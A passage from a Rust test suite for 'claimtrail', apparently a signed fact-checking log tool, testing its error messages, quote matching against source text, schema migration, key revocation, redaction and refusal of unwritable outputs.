    refused(&w, None, &["show", "Adele Khodr"], "error: `Adele Khodr` is not an id: ids look like S3 (source), C12 (claim) or A7 (annotation) (hint: show takes an id: a speaker's claims are listed by `claimtrail list claims --speaker 'Adele Khodr'`, the speakers by `claimtrail list speakers`, and the ids by `claimtrail list claims`, `claimtrail list sources` or `claimtrail list annotations`)");
    refused(&w, None, &["show", "A5"], "no annotation A5");
    // clap validates closed sets: the same one-line error, exit 2.
    let before = w.db_bytes();
    w.run(Some("analyst"), &["annotate", "C1", "--verdict", "maybe"])
        .error("`maybe` is not a verdict: use one of confirmed, corroborated, unverified, disputed, misleading, false (hint: `claimtrail annotate --help` lists what it takes)");
    w.run(
        Some("analyst"),
        &["annotate", "C1", "--verdict", "false", "--credibility", "7"],
    )
    .error("use 1 to 6");
    // A value holding what does not show: clap's line dropped the escape
    // sequence and printed the zero-width space, so it read "`false` is
    // not a verdict".
    for (value, says) in [
        ("\u{1b}[31mfalse", "error: invalid value `\\u{1b}[31mfalse` for --verdict <VERDICT>: it holds U+001B, a control or invisible character (hint: type the value again without it; one copied from a web page or a document can carry such characters)\n"),
        ("false\u{200b}", "error: invalid value `false\\u{200b}` for --verdict <VERDICT>: it holds U+200B, "),
        ("false\u{a0}", "error: invalid value `false\\u{a0}` for --verdict <VERDICT>: it holds U+00A0, "),
    ] {
        let r = w.run(Some("analyst"), &["annotate", "C1", "--verdict", value]);
        r.error(says);
        assert!(r.stderr.starts_with(says), "{}", r.stderr);
    }
    w.run(None, &["list", "\u{1b}[2Jclaims"])
        .error("error: invalid value `\\u{1b}[2Jclaims` for <sources|claims|annotations|keys|speakers>: it holds U+001B");
    assert!(before == w.db_bytes());
    // A key that is not enrolled.
    w.key("stranger");
    refused(
        &w,
        Some("stranger"),
        &["annotate", "C1", "--verdict", "false"],
        "is not enrolled in this log",
    );
    assert!(w.run(None, &["verify"]).ok().contains("OK"));
    // An encoded zero-width non-joiner, as a Persian path holds, reorders
    // nothing and is taken as the browser wrote it.
    w.source_at(
        "https://fa.example/%D9%85%DB%8C%E2%80%8C%D8%B1%D9%88%D9%85",
        b"A Persian page.",
    )
    .ok();
    // Nor an encoded right-to-left mark, as right-to-left sites' slugs
    // hold: a mark reorders no run of text, as an override does.
    w.source_at(
        "https://ar.example/%E2%80%8F%D8%AE%D8%A8%D8%B1",
        b"An Arabic page.",
    )
    .ok();
}

#[test]
fn a_retyped_quote_is_refused_with_the_sources_own_text_and_span() {
    let w = Work::with_claims();
    let claim = |how: &[&str]| w.claim_on_s1(how, "Al-Monitor");
    // Typed with a straight apostrophe; the article has a curly one.
    let before = w.db_bytes();
    claim(&["--quote", "Syria's northwestern province of Idlib"]).error(
        "the quote does not occur in S1 as given, but with other quotation marks or apostrophes \
         it does, at line 1 col 74 (bytes 75..115): `Syria’s northwestern province of Idlib` \
         (hint: to claim the source's own text, use --span 75..115 instead of --quote)",
    );
    assert!(before == w.db_bytes());
    // A hyphen for the em dash, and lower case.
    claim(&["--quote", "aleppo - russia has resumed"]).error(
        "but with other dashes and letter case it does, at line 1 col 1 (bytes 0..29): \
         `ALEPPO — Russia has resumed` (hint: to claim the source's own text, use --span 0..29 instead of --quote)",
    );
    // Two hyphens, as a dash is typed on a keyboard without one.
    claim(&["--quote", "ALEPPO -- Russia has resumed"]).error(
        "but with other dashes it does, at line 1 col 1 (bytes 0..29): \
         `ALEPPO — Russia has resumed` (hint: to claim the source's own text, use --span 0..29 instead of --quote)",
    );
    // Several near matches are listed, with the span of the first.
    claim(&["--quote", "tehran summit"]).error(
        "but 3 near matches do: 1: other letter case, line 33 col 160 (bytes 3782..3795): \
         `Tehran summit`; 2: other letter case,",
    );
    // Letters that differ are not set aside: the message shows where the
    // quote parts from the text (its beginning, typography aside).
    claim(&["--quote", "Syria's northeastern province"]).error(
        "the quote does not occur in S1; its first 13 characters do, at line 1 col 74 \
         (bytes 75..90), and then the source has `western province of Idli…` where the quote \
         has `eastern province` (hint: copy the passage exactly from `claimtrail show S1 --text`, \
         or use --span)",
    );
    // Or its end, when the quote went wrong early.
    claim(&[
        "--quote",
        "Eight civilians, including four children from one family, were killed",
    ])
    .error(
        "the quote does not occur in S1; its last 64 characters do, at line 5 col 83 \
             (bytes 447..511), and before them the source has `… tweeted July 22, “Seven` where \
             the quote has `Eight`",
    );
    // The first place of several, and how many others.
    claim(&["--quote", "Tehran summit ended in failure"]).error(
        "its first 14 characters do, at line 33 col 496 (bytes 4118..4132) (and at 1 other \
         place), and then the source has `are evidence of the lack…` where the quote has \
         `ended in failure`",
    );
    // Nothing of it: no place to show.
    claim(&["--quote", "The market was struck at noon"])
        .error("the quote does not occur in S1 (hint: copy the text exactly");
    // A quote with words left out (an ellipsis) is never one exact span:
    // its parts are found in order, and the hint offers the passage.
    claim(&["--quote", "Seven civilians … were killed"]).error(
        "the quote leaves text out (an ellipsis), and a claim is one exact span of S1: its 2 \
         parts occur in order at line 5 col 78 (bytes 442..457) and line 5 col 136 \
         (bytes 500..511) (hint: claim the whole passage, the words left out included, with \
         --span 442..511 instead of --quote, or each part as a claim of its own)",
    );
    claim(&["--quote", "[...] were killed, and 12 others"]).error(
        "without the ellipsis it occurs at line 5 col 136 (bytes 500..526) (hint: to claim \
         that text, use --span 500..526 instead of --quote)",
    );
    // Parts far apart are not one passage: the beginning is shown instead.
    claim(&[
        "--quote",
        "At least five children were killed and nine injured … Tehran summit",
    ])
    .error("the quote does not occur in S1; its first 52 characters do");
    assert!(before == w.db_bytes());
    // The span the hint gave claims the source's exact bytes.
    assert_eq!(claim(&["--span", "75..115"]).ok().trim(), "C3");
    let shown = w.run(None, &["show", "C3"]);
    assert!(shown
        .ok()
        .contains("[Syria’s northwestern province of Idlib]"));
    // A quote whose accents were typed apart (as macOS and some PDFs give
    // them) is found in a text that has them composed; the hint's span
    // claims the source's own bytes.
    let s2 = w.source_from_stdin(
        "analyst",
        "statement",
        "Le maire a déclaré que le café rouvrira lundi.",
    );
    assert_eq!(s2, "S2");
    let decomposed = "le cafe\u{301} rouvrira";
    w.claim_on("S2", &["--quote", decomposed], "le maire", "statement")
        .error(
            "but with other Unicode forms (accents typed apart, ligatures, presentation forms) it \
             does, at line 1 col 24 (bytes 25..42): `le café rouvrira` (hint: to claim the source's \
             own text, use --span 25..42 instead of --quote)",
        );
    let c = w.claim_on("S2", &["--span", "25..42"], "le maire", "statement");
    assert_eq!(c.ok().trim(), "C4");
    // A span over a paragraph break: its next lines go on indented deeper
    // than the fields, so that none can pass for one.
    assert_eq!(claim(&["--span", "750..795"]).ok_noted().trim(), "C5");
    let shown = w.run(None, &["show", "C5"]);
    assert!(
        shown
            .ok()
            .contains("[stern countryside of Idlib.\"\n\n      The White Helme]ts and"),
        "{}",
        shown.stdout
    );
    w.run(None, &["verify"]).ok();
    // Three dots for the source's ellipsis; a no-break space, shown
    // escaped, as it looks like the space typed.
    let s2 = w.source_from_stdin(
        "analyst",
        "statement",
        "He said: \u{201c}So\u{2026} what?\u{201d} and x\u{a0}y here.",
    );
    for (quote, says) in [
        ("So... what?", "but with other ellipsis marks (… against three dots) it does, at line 1 col 11 (bytes 12..23): `So… what?`"),
        ("\"So... what?\"", "but with other quotation marks or apostrophes and ellipsis marks (… against three dots) it does, at line 1 col 10 (bytes 9..26): `“So… what?”`"),
        ("x y", "but with other spacing it does, at line 1 col 26 (bytes 31..35): `x\\u{a0}y`"),
    ] {
        refused(
            &w,
            Some("analyst"),
            &["claim", "add", "--source", &s2, "--quote", quote, "--speaker", "He", "--provenance", "statement"],
            says,
        );
    }
}

#[test]
fn a_version_1_log_is_migrated_and_its_tree_filled_in() {
    let w = Work::with_claims();
    let root_before = {
        let v: serde_json::Value =
            serde_json::from_str(w.run(None, &["verify", "--json"]).ok()).unwrap();
        v["tree_root"].as_str().unwrap().to_string()
    };
    // Make it look like a log written by schema version 1.
    w.sql(&format!("{BEFORE_V9}DROP TABLE source_amendments; DROP TABLE annotation_retractions; DROP TABLE merkle_nodes; DROP TABLE checkpoints; DROP INDEX annotations_by_supersedes; DROP TABLE retractions; DROP INDEX claims_by_place_and_speaker; CREATE INDEX claims_by_source ON claims(source_id); PRAGMA user_version = 1;"));
    // A command that only reads leaves the file as it is (an auditor's
    // copy keeps its hash), and reads it as the current schema.
    let old = w.db_bytes();
    let v: serde_json::Value =
        serde_json::from_str(w.run(None, &["verify", "--json"]).ok()).unwrap();
    assert_eq!(v["ok"], true, "{v}");
    assert_eq!(v["tree_root"].as_str().unwrap(), root_before);
    for args in [
        &["list", "claims"][..],
        &["status"],
        &["prove", "C1"],
        &["show", "C1"],
    ] {
        w.run(None, args).ok();
    }
    assert!(
        w.db_bytes() == old,
        "a command that only reads migrated the file"
    );
    assert_eq!(w.schema_version(), 1);
    // Nor does one that would append, refused before it does.
    w.run(None, &["annotate", "C2", "--verdict", "disputed"])
        .error("no signing key given");
    assert!(w.db_bytes() == old, "a refused command migrated the file");
    // The first command that appends migrates it, and fills in its tree.
    w.run(
        Some("analyst"),
        &["annotate", "C2", "--verdict", "disputed"],
    )
    .ok();
    assert_eq!(w.schema_version(), 9);
    let v: serde_json::Value =
        serde_json::from_str(w.run(None, &["verify", "--json"]).ok()).unwrap();
    assert_eq!(v["ok"], true, "{v}");
}

/// A mistyped command line gets the one-line error every other error gets
/// (what is wrong, then what to do), not clap's block of lines; `--help`
/// and `--version` still print and succeed.
/// `import` into an older log: a refused file leaves it as it was, and the
/// first batch migrates it (every import into a log of schema version 1 to
/// 3 failed: "Safety level may not be changed inside a transaction").
#[test]
fn an_import_migrates_an_older_log_when_it_appends() {
    let w = Work::with_claims();
    w.sql(&format!("{BEFORE_V9}DROP TABLE source_amendments; DROP TABLE annotation_retractions; DROP INDEX claims_by_place_and_speaker; CREATE INDEX claims_by_source ON claims(source_id); PRAGMA user_version = 3;"));
    let old = w.db_bytes();
    std::fs::write(
        w.path("bad.jsonl"),
        "{\"type\":\"annotation\",\"claim\":\"C9\",\"verdict\":\"false\"}\n",
    )
    .unwrap();
    w.run(Some("analyst"), &["import", "bad.jsonl"])
        .error("line 1: ");
    assert!(w.db_bytes() == old, "a refused import changed the file");
    std::fs::write(
        w.path("good.jsonl"),
        "{\"type\":\"annotation\",\"claim\":\"C1\",\"verdict\":\"false\",\"note\":\"imported\"}\n",
    )
    .unwrap();
    let out = w.run(Some("analyst"), &["import", "good.jsonl"]);
    assert!(out.ok().contains("1 annotation"), "{}", out.stdout);
    assert_eq!(w.schema_version(), 9);
    w.run(None, &["verify"]).ok();
}

/// A log of schema version 4 (claims found by their place, without the
/// speaker) reads as it is and gets version 5's index with its first
/// append; a claim recorded twice is still refused through either.
#[test]
fn a_version_4_log_gets_the_index_by_place_and_speaker() {
    let w = Work::with_claims();
    w.sql(&format!("{BEFORE_V9}DROP TABLE source_amendments; DROP TABLE annotation_retractions; DROP INDEX claims_by_place_and_speaker; CREATE INDEX claims_by_place ON claims(source_id, start, \"end\"); PRAGMA user_version = 4;"));
    let index = || -> Vec<String> {
        let c = rusqlite::Connection::open(&w.db).unwrap();
        let mut st = c
            .prepare(
                "SELECT name FROM sqlite_schema WHERE name LIKE 'claims_by_place%' ORDER BY name",
            )
            .unwrap();
        st.query_map([], |r| r.get(0))
            .unwrap()
            .collect::<rusqlite::Result<_>>()
            .unwrap()
    };
    let old = w.db_bytes();
    assert!(w.run(None, &["verify"]).ok().contains("OK"));
    // C1 again: refused through the index of either version.
    let c1_again = || {
        w.run(
            Some("analyst"),
            &[
                "claim",
                "add",
                "--source",
                "S1",
                "--span",
                "442..511",
                "--speaker",
                "White Helmets",
                "--provenance",
                "tweet",
            ],
        )
        .error("C1 already records bytes 442..511 of S1, said by White Helmets via tweet");
    };
    c1_again();
    assert!(w.db_bytes() == old, "a refused claim migrated the file");
    assert_eq!(index(), ["claims_by_place"]);
    w.run(
        Some("analyst"),
        &["annotate", "C2", "--verdict", "disputed"],
    )
    .ok();
    assert_eq!(index(), ["claims_by_place_and_speaker"]);
    c1_again();
    assert!(w.run(None, &["verify"]).ok().contains("OK"));
}

#[test]
fn usage_errors_are_one_line_with_a_hint() {
    let w = Work::with_claims();
    let r = w.run(None, &["import"]);
    r.error("the following required arguments were not provided: <FILE> (hint: usage: claimtrail import ");
    assert!(
        r.stderr
            .ends_with("<FILE>; more in `claimtrail import --help`)\n"),
        "{}",
        r.stderr
    );
    // The usage is the command's own: the options that the environment
    // gives (CLAIMTRAIL_DB, CLAIMTRAIL_KEY) are not listed as if required.
    w.run(Some("admin"), &["export", "C1"]).error(
        "the following required arguments were not provided: --out <OUT> (hint: usage: claimtrail export [OPTIONS] --out <OUT> <IDS>...; more in `claimtrail export --help`)",
    );
    w.run(Some("admin"), &["key", "revoke", "analyst.pub"]).error(
        "(hint: usage: claimtrail key revoke [OPTIONS] --reason <REASON> <KEY>; more in `claimtrail key revoke --help`)",
    );
    // --occurrence picks among a quote's occurrences; beside --span it was
    // ignored (import refuses the pair too).
    refused(
        &w,
        Some("analyst"),
        &[
            "claim", "add", "--source", "S1", "--span", "0..10", "--occurrence", "2",
            "--speaker", "x", "--provenance", "statement",
        ],
        "the argument '--span <SPAN>' cannot be used with '--occurrence <OCCURRENCE>' (hint: usage: claimtrail claim add",
    );
    w.run(None, &["verfy"])
        .error("unrecognized subcommand 'verfy' (hint: some similar subcommands exist");
    // Not clap's "to pass '--bogus' as a value, use '-- --bogus'", which
    // fails again when followed: the command's usage.
    w.run(None, &["show", "C1", "--bogus"])
        .error("unexpected argument '--bogus' found (hint: usage: claimtrail show [OPTIONS] <ID>; more in `claimtrail show --help`)");
    // An id typed with a leading zero: which one it is, said.
    w.run(None, &["show", "C01"])
        .error("error: `C01` is not an id: ids look like S3 (source), C12 (claim) or A7 (annotation); without its leading zeros it is C1 (hint: ");
    w.run(None, &["show", "C0"]).error("error: `C0` is not an id: ids look like S3 (source), C12 (claim) or A7 (annotation); ids start at 1 (S1, C1, A1) (hint: ");
    // The form the message shows, with more digits than an id has.
    w.run(None, &["show", "C9223372036854775807"]).error("error: `C9223372036854775807` is not an id: ids look like S3 (source), C12 (claim) or A7 (annotation); its number is larger than any log can hold (at most 18 digits) (hint: ");
    // A usage of two lines, as one (its line break was shown as `\n`).
    w.run(None, &["annotate", "C5", "C6", "--verdict", "false"])
        .error("unexpected argument 'C6' found (hint: usage: claimtrail annotate [OPTIONS] --verdict <VERDICT> <CLAIM>, or claimtrail annotate retract --reason <REASON> <ANNOTATION>; more in `claimtrail annotate --help`)");
    // Hints name the log given with --db, so that they run as typed.
    w.run(None, &["--db", w.db.to_str().unwrap(), "show", "C99"])
        .error(&format!(
            "(hint: see `claimtrail --db {} list claims` for the claim ids in this log)",
            w.db.display()
        ));
    // Options that take several values take one per use; a second value
    // after one is named, with how to give several.
    refused(
        &w,
        Some("admin"),
        &[
            "annotate",
            "C2",
            "--verdict",
            "false",
            "--corroborates",
            "C1",
            "C3",
        ],
        "unexpected argument 'C3' found (hint: give several ids separated by commas (--corroborates X1,X2), or repeat --corroborates)",
    );
    // Named though the same value stands before it too.
    w.run(
        Some("admin"),
        &["annotate", "C1", "--verdict", "false", "--contradicts", "C2", "C1"],
    )
    .error("unexpected argument 'C1' found (hint: give several ids separated by commas (--contradicts X1,X2), or repeat --contradicts)");
    w.run(None, &["verify-bundle", "b.json", "--vkey", "a+1+k", "b+2+k"])
        .error("unexpected argument 'b+2+k' found (hint: give each key with its own --vkey: --vkey K1 --vkey K2)");
    // A command without its subcommand names the ones it has.
    w.run(None, &["key"]).error(
        "'claimtrail key' requires a subcommand but one was not provided [subcommands: new, add, revoke",
    );
    let help = w.run(None, &["show", "--help"]);
    assert!(
        help.ok().contains("Usage: claimtrail show"),
        "{}",
        help.stdout
    );
    assert!(w.run(None, &["--version"]).ok().starts_with("claimtrail "));
}

/// A command line that clap refuses, with an argument that is not UTF-8
/// (a file name in Latin-1, a stray byte pasted in): the one usage line,
/// exit 2. The usage hint reads the command line again, and read it as
/// UTF-8, which panicked (exit 101) until 2026-12-04.
#[cfg(unix)]
#[test]
fn a_usage_error_beside_an_argument_that_is_not_utf8_is_one_line() {
    use std::os::unix::ffi::OsStrExt;
    let w = Work::with_claims();
    let raw = |args: &[&[u8]]| {
        let mut c = w.std_command(None, &[], &[]);
        c.args(args.iter().map(|a| std::ffi::OsStr::from_bytes(a)));
        Run::from(c.stdin(std::process::Stdio::null()).output().unwrap())
    };
    // The value itself refused: clap says which kind of text it needs.
    raw(&[b"show", b"C\xff"]).error("invalid UTF-8 was detected in one or more arguments");
    raw(&[b"list", b"claims", b"--speaker", b"\xff"])
        .error("invalid UTF-8 was detected in one or more arguments");
    // A mistyped command beside a file name that is not UTF-8.
    raw(&[b"--db", b"x\xff.db", b"bogus"]).error("unrecognized subcommand 'bogus' (hint: ");
    raw(&[
        b"annotate",
        b"C1",
        b"--verdict",
        b"false",
        b"--contradicts",
        b"C2",
        b"C\xff",
    ])
    .error("unexpected argument ");
    assert_eq!(w.run(None, &["verify"]).code, 0);
}

/// `claimtrail --help` lists each command in one line; the command's own
/// `--help` goes on with what the line leaves out: verify's exit codes,
/// where to install a completion script. (clap shows a subcommand's details
/// only when the enum variant has no doc comment of its own: they were
/// hidden behind the one-line summaries until 2026-12-01.)
#[test]
fn a_commands_help_says_more_than_its_line_in_the_list() {
    let w = Work::new();
    let list = w.run(None, &["--help"]).ok().to_owned();
    // (The column's width follows the longest command name.)
    let line = list
        .lines()
        .find(|l| l.starts_with("  verify "))
        .unwrap_or_else(|| panic!("{list}"));
    assert_eq!(
        line["  verify ".len()..].trim_start(),
        "Check every entry, signature, reference, text and table of the log",
        "{list}"
    );
    assert!(!list.contains("Exit 0"), "{list}");

    let verify = w.run(None, &["verify", "--help"]).ok().to_owned();
    assert!(verify.starts_with("Check every entry, signature, reference, text and table of the log.\n\nExit 0: everything holds. Exit 1: problems found"), "{verify}");
    assert!(verify.contains("Exit 2:"), "{verify}");
    assert!(
        verify.contains("What verify alone cannot prove: that the log was not cut short"),
        "{verify}"
    );
    // -h keeps to the line.
    let short = w.run(None, &["verify", "-h"]).ok().to_owned();
    assert!(!short.contains("Exit 0"), "{short}");

    let completions = w.run(None, &["completions", "--help"]).ok().to_owned();
    assert!(completions.contains("\nbash: `claimtrail completions bash > ~/.local/share/bash-completion/completions/claimtrail`\n"), "{completions}");
    let bundle = w.run(None, &["verify-bundle", "--help"]).ok().to_owned();
    assert!(
        bundle.starts_with("Check a bundle with no database.\n\nChecks the signatures"),
        "{bundle}"
    );
    assert!(
        bundle.contains("What a bundle cannot prove: that it holds every annotation"),
        "{bundle}"
    );
    // The command's own options come first; --db, --key and --json, which
    // every command takes, are listed apart, after them.
    let own = bundle.find("\nOptions:\n").expect(&bundle);
    let global = bundle.find("\nGlobal Options:\n").expect(&bundle);
    assert!(own < global, "{bundle}");
    assert!(
        bundle[own..global].contains("--vkey <KEY|FILE>"),
        "{bundle}"
    );
    for flag in ["--db <DB>", "--key <KEY>", "--json"] {
        assert!(bundle[global..].contains(flag), "{flag}: {bundle}");
        assert!(!bundle[own..global].contains(flag), "{flag}: {bundle}");
    }
    // Paragraphs are wrapped to the terminal's width: read as one line.
    let import = w.run(None, &["import", "--help"]).ok().replace('\n', " ");
    assert!(
        import.contains("Running the same file again, after an interruption or not, appends only what is missing."),
        "{import}"
    );
    assert!(
        import.contains("or a spreadsheet's CSV export, whose header row names those fields"),
        "{import}"
    );
}

/// `demo` and `bench` build their own logs: a --db given to them is
/// refused (`--db mine.db demo` built the demo elsewhere without a word,
/// and mine.db was never made). CLAIMTRAIL_DB, set for the desk's own
/// log, is left alone (the tests' own runs set it).
#[test]
fn demo_and_bench_take_no_db() {
    let w = Work::new();
    let dir = w.path("d");
    w.run(
        None,
        &["--db", "mine.db", "demo", "--dir", dir.to_str().unwrap()],
    )
    .error("error: demo builds its log in its own directory (DIR/claimtrail.db) and takes no --db (hint: leave --db out: `--dir DIR` chooses where the demo goes, and its log is DIR/claimtrail.db)");
    w.run(None, &["bench", "--entries", "3", "--db=mine.db"])
        .error("error: bench builds its log in a temporary directory and takes no --db (hint: leave --db out: TMPDIR chooses where the bench's log goes)");
    // Nor a key: it makes its own three (it went on without a word).
    w.run(None, &["--key", "me", "demo", "--dir", dir.to_str().unwrap()])
        .error("error: demo makes its own keys (DIR/admin, DIR/analyst, DIR/auditor) and takes no --key (hint: leave --key out; the demo prints the commands to try with its keys)");
    assert!(!dir.exists() && !w.path("mine.db").exists());
}

#[test]
fn bench_steps_meant_for_its_children_are_refused_clearly() {
    // `bench` runs its heavy steps in children, told their step through
    // the environment; set by hand, the variables get a clear error.
    let w = Work::new();
    w.run_with(None, &[("CLAIMTRAIL_BENCH_STEP", "build")], &["bench"], None)
        .error("CLAIMTRAIL_BENCH_STEP is set without CLAIMTRAIL_BENCH_DIR (hint: CLAIMTRAIL_BENCH_STEP and CLAIMTRAIL_BENCH_DIR are internal to bench: unset them)");
    let dir = w.path("bench");
    w.run_with(
        None,
        &[
            ("CLAIMTRAIL_BENCH_STEP", "everything"),
            ("CLAIMTRAIL_BENCH_DIR", dir.to_str().unwrap()),
        ],
        &["bench"],
        None,
    )
    .error("unknown bench step `everything`");
    assert!(!dir.exists());
}

#[test]
fn bench_refuses_a_log_too_small_to_build() {
    let w = Work::new();
    w.run(None, &["bench", "--entries", "2"])
        .error("invalid value '2' for '--entries <ENTRIES>': the bench's log needs at least 3 entries (its log.init, key.add and checkpoint) (hint: `claimtrail bench --help` lists what it takes)");
    w.run(None, &["bench", "--entries", "-5"]).error(
        "invalid value '-5' for '--entries <ENTRIES>': `-5` is not a whole number of 0 or more",
    );
    w.run(None, &["bench", "--entries", "1e6"])
        .error("`1e6` is not a whole number of 0 or more");
}

#[test]
fn revoking_and_redacting_name_the_key_and_refuse_with_what_to_do() {
    let w = Work::with_claims();
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "admin.pub", "--reason", "mistyped"],
        ") is the last admin key; revoking it would leave nobody able to enroll keys (hint: enroll another admin first with `claimtrail key add KEY.pub --role admin --name \"NAME\"` (a name no enrolled key holds: the new key of the same person takes one of its own, such as \"Desk admin 2027\"), then revoke this key)",
    );
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "nobody", "--reason", "mistyped"],
        "no key in this log is named `nobody` (hint: give the key's whole name or its fingerprint, as `claimtrail key list` shows them, or its .pub file)",
    );
    // Part of a name is not enough to revoke (it cannot be taken back).
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "Rana", "--reason", "mistyped"],
        "no key in this log is named `Rana`",
    );
    // A fingerprint as ssh-keygen -E md5 prints it is named as such (it
    // was looked for as a name).
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "MD5:18:66:2f:a7:3c:9a:07:55:f5:1e:e3:94:2b:8c:aa:0e", "--reason", "mistyped"],
        "is an MD5 fingerprint; claimtrail names keys by their SHA256 fingerprint (`ssh-keygen -lf KEY.pub` prints it)",
    );
    // An admin given the private key file, which the analyst should never
    // have sent: named as such (it was "Base64 encoding error").
    w.key("newcomer");
    refused(
        &w,
        Some("admin"),
        &["key", "add", "newcomer", "--role", "analyst"],
        "error: newcomer: this is a private key file, which stays with its owner: give its .pub (hint: give the .pub file of an ed25519 key",
    );
    std::fs::write(w.path("junk"), "not a key\n").unwrap();
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "revoke",
            w.path("junk").to_str().unwrap(),
            "--reason",
            "x",
        ],
        "not an OpenSSH public key",
    );
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "auditor.pub", "--reason", " "],
        "a revocation needs a reason (hint: say why with --reason: it is signed, and `claimtrail key list` shows it)",
    );
    // The fingerprint as pasted from elsewhere: `sha256:` in lower case,
    // a space around it (it was taken for a name: "no key … is named").
    let listed = w.run(None, &["key", "list", "--json"]);
    let keys: serde_json::Value = serde_json::from_str(listed.ok()).unwrap();
    let auditor = keys
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["name"] == "auditor")
        .unwrap()["fingerprint"]
        .as_str()
        .unwrap()
        .to_string();
    let pasted = |fp: &str| format!(" sha256:{} ", &fp["SHA256:".len()..]);
    let listing = w.run(None, &["list", "annotations", "--by", &pasted(&auditor)]);
    assert_eq!(listing.code, 0, "{}", listing.stderr);
    let admin = w.run(None, &["key", "list", "--json"]);
    let admin: serde_json::Value = serde_json::from_str(admin.ok()).unwrap();
    let admin = admin[0]["fingerprint"].as_str().unwrap().to_string();
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", &pasted(&admin), "--reason", "mistyped"],
        "is the last admin key",
    );
    // The .pub file, as `key add` took it.
    let out = w.run(
        Some("admin"),
        &["key", "revoke", "auditor.pub", "--reason", "left the desk"],
    );
    assert!(
        out.ok().starts_with("revoked auditor (SHA256:") && out.ok().contains(") at entry 7;"),
        "{}",
        out.ok()
    );
    // The private key file names the same key (its public half is in clear).
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "auditor", "--reason", "mistyped"],
        "was already revoked at entry 7 (hint: nothing to do: see `claimtrail key list`)",
    );
    // Nor does a revoked key come back.
    refused(
        &w,
        Some("admin"),
        &["key", "add", "auditor.pub", "--role", "auditor"],
        "was enrolled (entry 2) as auditor and revoked at entry 7 (hint: a revoked key never signs again: make a new key with `claimtrail key new PATH` and enroll that)",
    );
    // The whole enrolled name, case and spacing aside.
    let out = w.run(
        Some("admin"),
        &[
            "--json",
            "key",
            "revoke",
            "rana  HADDAD",
            "--reason",
            "laptop stolen",
        ],
    );
    let json: serde_json::Value = serde_json::from_str(out.ok()).unwrap();
    assert_eq!(json["name"], "Rana Haddad");
    assert_eq!(json["entry"]["seq"], 8);
    let listed = w.run(None, &["key", "list"]);
    assert!(
        listed
            .ok()
            .contains("entry 1   revoked at entry 8: laptop stolen"),
        "{}",
        listed.ok()
    );

    refused(
        &w,
        Some("admin"),
        &["source", "redact", "S1", "--reason", ""],
        "a redaction needs a reason (hint: say why with --reason: it is signed, and `claimtrail show S1` shows it)",
    );
    w.run(
        Some("admin"),
        &["source", "redact", "S1", "--reason", "court order"],
    )
    .ok_noted();
    // Again, it signs nothing (the source is redacted) and only rebuilds
    // the file: what finishes a redaction that a reader held up.
    let entries = w.run(None, &["--json", "status"]).ok().to_string();
    let again = w.run(
        Some("admin"),
        &["source", "redact", "S1", "--reason", "again"],
    );
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(
        again.stdout.starts_with("S1 was already redacted, at entry ")
            && again.stdout.ends_with(": nothing new was signed; the file was rebuilt again, so that no page of it holds the text\n"),
        "{}",
        again.stdout
    );
    // Its reason is the one signed: the one given now is said not to be
    // recorded (it was dropped without a word).
    assert!(
        again.stderr.starts_with("note: the reason given now is not recorded: a source is redacted once, and its redaction at entry ")
            && again.stderr.ends_with(" gives its own (\"court order\")\n"),
        "{}",
        again.stderr
    );
    assert_eq!(w.run(None, &["--json", "status"]).ok(), entries);
    assert!(w.run(None, &["verify"]).ok().contains("OK"));
    // Run again, it is refused as a first run is: without a reason, or by
    // a key that may not redact (it said OK and rebuilt the file); the
    // auditor's key was revoked above.
    refused(
        &w,
        Some("admin"),
        &["source", "redact", "S1", "--reason", " "],
        "a redaction needs a reason",
    );
    refused(
        &w,
        Some("auditor"),
        &["source", "redact", "S1", "--reason", "again"],
        "was revoked at entry",
    );
    // The same bytes added again: refused, and not with "use S1", which
    // can no longer be quoted. (The analyst's key was revoked above, which
    // a key that may not sign is told first.)
    refused(
        &w,
        Some("analyst"),
        &["source", "add", FIXTURE, "--kind", "article"],
        "was revoked at entry",
    );
    refused(
        &w,
        Some("admin"),
        &["source", "add", FIXTURE, "--kind", "article"],
        "error: these bytes are S1's, which was redacted at entry ",
    );
    let r = w.run(
        Some("admin"),
        &["source", "add", FIXTURE, "--kind", "article"],
    );
    assert!(
        r.stderr.contains(" (court order): they cannot be stored again (hint: the redaction keeps this text out of the log; ask admin (the admin who redacted it) if it should come back)"),
        "{}",
        r.stderr
    );
}

/// A file that cannot be written is said as such ("cannot write", and a
/// missing directory named), and a command that would sign something
/// first checks that it can write the result: the log stays unchanged.
#[test]
fn unwritable_outputs_are_refused_before_anything_is_signed() {
    let w = Work::with_team();
    let missing = w.path("no-such-dir");
    let at = |f: &str| missing.join(f).to_str().unwrap().to_string();
    refused(
        &w,
        None,
        &["key", "new", &at("k"), "--no-passphrase"],
        &format!(
            "cannot write {}: its directory does not exist (hint: check that the directory exists and that you may write there)",
            at("k")
        ),
    );
    refused(
        &w,
        Some("admin"),
        &["checkpoint", "--out", &at("cp")],
        &format!("cannot write {}: its directory does not exist", at("cp")),
    );
    refused(
        &w,
        None,
        &["backup", &at("copy.db")],
        &format!(
            "cannot write {}: its directory does not exist",
            at("copy.db")
        ),
    );
    w.run_with(
        Some("admin"),
        &[("CLAIMTRAIL_DB", &at("new.db"))],
        &["init", "--origin", "test.example/other"],
        None,
    )
    .error(&format!(
        "cannot write {}: its directory does not exist",
        at("new.db")
    ));
    assert!(!missing.exists());
    // A directory that is there but takes no new files: /proc was said
    // not to exist.
    refused(
        &w,
        None,
        &["backup", "/proc/claimtrail-copy.db"],
        "cannot write /proc/claimtrail-copy.db: no such file can be made there (its directory exists: it is a link to a missing place, or a system directory such as /proc that takes no new files)",
    );
    // Ids of a kind the log has none of yet.
    refused(
        &w,
        Some("analyst"),
        &["annotate", "C1", "--verdict", "false"],
        "no claim C1 in this log (it has no claims yet)",
    );
    // The checkpoint file, once written, is public: not a 0600 temporary.
    let cp = w.path("cp");
    w.run(
        Some("admin"),
        &["checkpoint", "--out", cp.to_str().unwrap()],
    )
    .ok();
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&cp).unwrap().permissions().mode() & 0o777;
